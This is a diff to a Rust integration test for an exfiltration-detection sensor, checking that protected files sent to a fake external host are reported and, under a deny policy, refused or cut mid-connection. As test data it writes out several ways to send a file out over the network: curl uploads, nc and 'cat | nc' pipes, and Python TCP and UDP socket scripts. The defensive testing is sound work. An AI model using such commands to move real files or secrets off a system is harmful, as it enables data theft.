@@ -2,8 +2,11 @@
 //! IPv6 each send a protected file to the fake external host ([`FakeHost`], a network
 //! namespace the test creates); with `action: alert` each gives a `detection.exfiltration`
 //! with the destination and the bytes the sink received, with `action: deny` each connect
-//! fails with EPERM and nothing arrives. Also: an archive or compressed copy piped through
-//! an encryptor to the network, and an allowed destination with `allowed_uids`.
+//! fails with EPERM and nothing arrives. A sender that connects before it reads the file
+//! (nc, `cat | nc`, and Python over TCP and UDP) is cut under `action: deny` at its first tainted send:
+//! nothing arrives, its detection says `deny` and `mnsensor.egress.cut`, and its send or
+//! receive fails. Also: an archive or compressed copy piped through an encryptor to the
+//! network, and an allowed destination with `allowed_uids`.
 //!
 //! Host-only (`HOST_ONLY` in xtask/src/vm/mod.rs): the busybox guest's `ip` cannot make the
 //! namespace. The egress programs attach only to a child cgroup the test creates.
@@ -21,12 +24,20 @@ use serde_json::Value;
 const SIZE: usize = 40_000;
 /// Exit code of [`wrap`] when the client reported EPERM.
 const EPERM_EXIT: i32 = 13;
+/// Exit code of [`wrap`] when the client reported EPIPE.
+const PIPE_EXIT: i32 = 14;
 
 /// `python3 -c PY_TCP FILE ADDRESS PORT`: reads FILE, sends it over TCP.
 const PY_TCP: &str = "import socket, sys\ndata = open(sys.argv[1], 'rb').read()\nc = socket.create_connection((sys.argv[2], int(sys.argv[3])))\nc.sendall(data); c.close()";
 /// `python3 -c PY_UDP_CONNECTED FILE ADDRESS PORT`: connect(2) on a UDP socket, then three
 /// 1000-byte datagrams with send(2).
 const PY_UDP_CONNECTED: &str = "import socket, sys\ndata = open(sys.argv[1], 'rb').read()\ns = socket.socket(socket.AF_INET6 if ':' in sys.argv[2] else socket.AF_INET, socket.SOCK_DGRAM)\ns.connect((sys.argv[2], int(sys.argv[3])))\nfor i in range(3): s.send(data[i * 1000:(i + 1) * 1000])";
+/// `python3 -c PY_TCP_CONNECT_FIRST FILE ADDRESS PORT`: connects first, then reads FILE and
+/// sends it over TCP (like nc, but a send that fails shows as a Python error).
+const PY_TCP_CONNECT_FIRST: &str = "import socket, sys\nc = socket.create_connection((sys.argv[2], int(sys.argv[3])))\ndata = open(sys.argv[1], 'rb').read()\nc.sendall(data)\nc.shutdown(socket.SHUT_WR)\nc.recv(1)";
+/// `python3 -c PY_UDP_CONNECT_FIRST FILE ADDRESS PORT`: connect(2) on a UDP socket, then
+/// reads FILE and sends three 1000-byte datagrams with send(2).
+const PY_UDP_CONNECT_FIRST: &str = "import socket, sys\ns = socket.socket(socket.AF_INET6 if ':' in sys.argv[2] else socket.AF_INET, socket.SOCK_DGRAM)\ns.connect((sys.argv[2], int(sys.argv[3])))\ndata = open(sys.argv[1], 'rb').read()\nfor i in range(3): s.send(data[i * 1000:(i + 1) * 1000])";
 /// An HTTP sink for curl (IP PORT OUT): reads a request with a Content-Length body, answers
 /// 200 and appends the request's whole byte count (head and body) to OUT.
 const HTTP_SINK: &str = r#"
@@ -62,10 +73,13 @@ struct Way {
     /// What the sink counts: the file (`SIZE`), 3000 for the datagrams, or more for curl's
     /// HTTP request (`None`: at least the file).
     expected: Option<u64>,
-    /// It reads the file before it connects, so `action: deny` refuses the connect. nc
-    /// connects first and reads its stdin after: docs/detections.md ("Egress control") says
-    /// such a connection is reported but not cut, and the deny test holds it to that.
-    tainted_at_connect: bool,
+    /// Under `action: deny`, `None` when it reads the file before it connects: the connect
+    /// is refused with EPERM. nc connects first and reads its stdin after: the connection is
+    /// then cut at its first tainted send (docs/detections.md, "Egress control"), and this is
+    /// how the sender exits: nc ends quietly when its socket fails (exit 0), Python's
+    /// receive on the disconnected socket raises EPIPE ([`PIPE_EXIT`]), a UDP send fails
+    /// with EPERM.
+    cut_exit: Option<i32>,
 }
 
 const WAYS: &[Way] = &[
@@ -76,7 +90,7 @@ const WAYS: &[Way] = &[
         sink: HTTP_SINK,
         send: |f, a, p| format!("curl -sSv -H Expect: --data-binary @{f} http://{a}:{p}/"),
         expected: None,
-        tainted_at_connect: true,
+        cut_exit: None,
     },
     Way {
         name: "python",
@@ -85,7 +99,7 @@ const WAYS: &[Way] = &[
         sink: SINK,
         send: |f, a, p| format!("python3 -c \"{PY_TCP}\" {f} {a} {p}"),
         expected: Some(SIZE as u64),
-        tainted_at_connect: true,
+        cut_exit: None,
     },
     Way {
         name: "nc",
@@ -94,7 +108,7 @@ const WAYS: &[Way] = &[
         sink: SINK,
         send: |f, a, p| format!("nc -N {a} {p} < {f}"),
         expected: Some(SIZE as u64),
-        tainted_at_connect: false,
+        cut_exit: Some(0),
     },
     Way {
         name: "connected UDP",
@@ -103,7 +117,35 @@ const WAYS: &[Way] = &[
         sink: UDP_SINK,
         send: |f, a, p| format!("python3 -c \"{PY_UDP_CONNECTED}\" {f} {a} {p}"),
         expected: Some(3000),
-        tainted_at_connect: true,
+        cut_exit: None,
+    },
+    Way {
+        name: "cat | nc",
+        ipv6: false,
+        transport: "tcp",
+        sink: SINK,
+        // nc is tainted through the pipe (one hop), after it connected.
+        send: |f, a, p| format!("sh -c 'cat {f} | nc -N {a} {p}'"),
+        expected: Some(SIZE as u64),
+        cut_exit: Some(0),
+    },
+    Way {
+        name: "python connected before reading",
+        ipv6: false,
+        transport: "tcp",
+        sink: SINK,
+        send: |f, a, p| format!("python3 -c \"{PY_TCP_CONNECT_FIRST}\" {f} {a} {p}"),
+        expected: Some(SIZE as u64),
+        cut_exit: Some(PIPE_EXIT),
+    },
+    Way {
+        name: "UDP connected before reading",
+        ipv6: false,
+        transport: "udp",
+        sink: UDP_SINK,
+        send: |f, a, p| format!("python3 -c \"{PY_UDP_CONNECT_FIRST}\" {f} {a} {p}"),
+        expected: Some(3000),
+        cut_exit: Some(EPERM_EXIT),
     },
     Way {
         name: "python over IPv6",
@@ -112,7 +154,7 @@ const WAYS: &[Way] = &[
         sink: SINK,
         send: |f, a, p| format!("python3 -c \"{PY_TCP}\" {f} {a} {p}"),
         expected: Some(SIZE as u64),
-        tainted_at_connect: true,
+        cut_exit: None,
     },
     Way {
         name: "nc over IPv6",
@@ -121,7 +163,7 @@ const WAYS: &[Way] = &[
         sink: SINK,
         send: |f, a, p| format!("nc -N {a} {p} < {f}"),
         expected: Some(SIZE as u64),
-        tainted_at_connect: false,
+        cut_exit: Some(0),
     },
     Way {
         name: "curl over IPv6",
@@ -130,7 +172,7 @@ const WAYS: &[Way] = &[
         sink: HTTP_SINK,
         send: |f, a, p| format!("curl -sSv -H Expect: --data-binary @{f} http://[{a}]:{p}/"),
         expected: None,
-        tainted_at_connect: true,
+        cut_exit: None,
     },
     Way {
         name: "connected UDP over IPv6",
@@ -139,18 +181,19 @@ const WAYS: &[Way] = &[
         sink: UDP_SINK,
         send: |f, a, p| format!("python3 -c \"{PY_UDP_CONNECTED}\" {f} {a} {p}"),
         expected: Some(3000),
-        tainted_at_connect: true,
+        cut_exit: None,
     },
 ];
 
-/// `send` with its stderr in `err` (in the test's unprotected directory): exits
-/// [`EPERM_EXIT`] when the client reported EPERM ("Operation not permitted", strerror(1);
-/// EACCES would read "Permission denied"), else with the client's own code. The test never
-/// reads `err` itself: it was written by a tainted process.
+/// `send` with its stderr in `err` (in the test's unprotected directory), stopped after a
+/// minute: exits [`EPERM_EXIT`] when the client reported EPERM ("Operation not permitted",
+/// strerror(1); EACCES would read "Permission denied"), [`PIPE_EXIT`] when it reported
+/// EPIPE ("Broken pipe"), else with the client's own code (124: it was
+/// stopped). The test never reads `err` itself: it was written by a tainted process.
 fn wrap(send: &str, err: &Path) -> String {
     let err = path_str(err);
     format!(
-        "{send} 2>{err}; rc=$?; if grep -q 'Operation not permitted' {err}; then exit {EPERM_EXIT}; fi; exit $rc"
+        "timeout 60 {send} 2>{err}; rc=$?; if grep -q 'Operation not permitted' {err}; then exit {EPERM_EXIT}; fi; if grep -q 'Broken pipe' {err}; then exit {PIPE_EXIT}; fi; exit $rc"
     )
 }
 
@@ -212,7 +255,7 @@ fn each_way_out_is_detected_with_its_destination_and_bytes() {
 }
 
 #[test]
-fn each_way_out_is_refused_with_eperm_under_deny() {
+fn each_way_out_is_refused_or_cut_under_deny() {
     let cg = Cgroup::new();
     let (host, addresses) = host_for_ways(9701);
     let mut s = EgressSetup::start(&cg, SIZE, "    action: deny\n", &[]);
@@ -220,16 +263,25 @@ fn each_way_out_is_refused_with_eperm_under_deny() {
     for (i, (way, address)) in WAYS.iter().zip(&addresses).enumerate() {
         let port = 9701 + i as u16;
         let (code, d, what) = send_way(&cg, &mut s, way, &file, address, port);
-        if way.tainted_at_connect {
+        assert_eq!(get_str(&d, "mnsensor.detection.action"), "deny", "{what}");
+        assert_eq!(get_u64(&d, "destination.port"), u64::from(port), "{what}");
+        // The sender runs as the test's own user (`Cgroup::run`).
+        // SAFETY: getuid has no preconditions.
+        let uid = unsafe { libc::getuid() };
+        assert_eq!(get_u64(&d, "process.real_user.id"), u64::from(uid), "{what}");
+        let Some(cut_exit) = way.cut_exit else {
             assert_eq!(code, EPERM_EXIT, "{}: refused with EPERM", way.name);
-            assert_eq!(get_str(&d, "mnsensor.detection.action"), "deny", "{what}");
-        } else {
-            // Reported, not cut (the documented gap): the file arrives.
-            assert_eq!(code, 0, "{}: connected before it was tainted", way.name);
-            assert_eq!(host.received_n(port, 1), vec![SIZE as u64], "{}", way.name);
-            assert_eq!(get_u64(&d, "mnsensor.egress.bytes_sent"), SIZE as u64, "{what}");
-            assert_eq!(get_str(&d, "mnsensor.detection.action"), "alert", "{what}");
-        }
+            assert!(d.get("mnsensor.egress.cut").is_none(), "{what}");
+            continue;
+        };
+        // Connected before it was tainted: the connection is cut at the first tainted send,
+        // before its bytes reach the socket (the sinks are checked below).
+        assert_eq!(code, cut_exit, "{}: how the sender of a cut connection ends", way.name);
+        assert_eq!(d.get("mnsensor.egress.cut"), Some(&Value::Bool(true)), "{what}");
+        // What it tried to send: TCP sends queue the whole file (none of it leaves); the
+        // first datagram fails, so Python sends no more.
+        let tried = if way.transport == "udp" { 1000 } else { SIZE as u64 };
+        assert_eq!(get_u64(&d, "mnsensor.egress.bytes_sent"), tried, "{what}");
     }
     // The same file from an untainted copy goes through: the sinks work.
     let public = path_str(&s.public).to_owned();
@@ -240,7 +292,7 @@ fn each_way_out_is_refused_with_eperm_under_deny() {
     thread::sleep(scaled(Duration::from_secs(1)));
     for (i, way) in WAYS.iter().enumerate() {
         let port = 9701 + i as u16;
-        let expected: &[u64] = if i == python || !way.tainted_at_connect { &[SIZE as u64] } else { &[] };
+        let expected: &[u64] = if i == python { &[SIZE as u64] } else { &[] };
         assert_eq!(host.received(port), expected, "{}: nothing of the file arrived", way.name);
     }
     s.sensor.stop();
